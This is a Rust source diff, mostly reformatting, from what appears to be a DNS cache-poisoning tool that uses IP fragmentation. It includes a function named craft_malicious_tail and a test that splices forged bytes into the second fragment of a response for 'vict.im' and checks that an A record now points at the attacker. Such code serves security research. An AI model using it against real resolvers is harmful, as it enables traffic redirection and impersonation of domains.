@@ -70,7 +70,15 @@ pub fn record_spans(msg: &[u8]) -> Option<Vec<RecordSpan>> {
         if msg.len() < rdata_offset + rdlength {
             return None;
         }
-        spans.push(RecordSpan { owner, name_offset, type_offset: after_name, ttl_offset, rdata_offset, rdlength, rtype });
+        spans.push(RecordSpan {
+            owner,
+            name_offset,
+            type_offset: after_name,
+            ttl_offset,
+            rdata_offset,
+            rdlength,
+            rtype,
+        });
         pos = rdata_offset + rdlength;
     }
     Some(spans)
@@ -132,7 +140,8 @@ pub fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr
     if layout.len() < 2 {
         return None;
     }
-    let tail_offset = layout[0].1; // end of fragment 1 within the IP payload
+    // End of fragment 1 within the IP payload.
+    let tail_offset = layout[0].1;
     // Position of the tail within the DNS message bytes.
     let dns_tail_start = tail_offset - UDP_HEADER_LEN;
 
@@ -199,14 +208,18 @@ mod tests {
         r.header.authoritative = true;
         let name: DomainName = "vict.im".parse().unwrap();
         r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Txt("v=spf1 ip4:30.0.0.0/22 -all".into())));
+        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Txt("padding-".repeat(60))));
         r.answers.push(ResourceRecord::new(
             name.clone(),
             300,
-            RData::Txt("padding-".repeat(60)),
+            RData::Mx { preference: 10, exchange: "mail.vict.im".parse().unwrap() },
         ));
-        r.answers.push(ResourceRecord::new(name.clone(), 300, RData::Mx { preference: 10, exchange: "mail.vict.im".parse().unwrap() }));
         r.answers.push(ResourceRecord::new(name.clone(), 300, RData::A("30.0.0.80".parse().unwrap())));
-        r.answers.push(ResourceRecord::new("www.vict.im".parse().unwrap(), 300, RData::A("30.0.0.80".parse().unwrap())));
+        r.answers.push(ResourceRecord::new(
+            "www.vict.im".parse().unwrap(),
+            300,
+            RData::A("30.0.0.80".parse().unwrap()),
+        ));
         r.authorities.push(ResourceRecord::new(name, 300, RData::Ns("ns1.vict.im".parse().unwrap())));
         r
     }
@@ -263,11 +276,7 @@ mod tests {
         let mut spliced = bytes[..dns_tail_start].to_vec();
         spliced.extend_from_slice(&crafted.bytes);
         let msg = Message::decode(&spliced).expect("spliced message still parses");
-        let redirected = msg
-            .answers
-            .iter()
-            .filter(|r| r.rdata.as_ipv4() == Some(attacker))
-            .count();
+        let redirected = msg.answers.iter().filter(|r| r.rdata.as_ipv4() == Some(attacker)).count();
         assert!(redirected >= 1, "at least one A record now points at the attacker");
     }
 
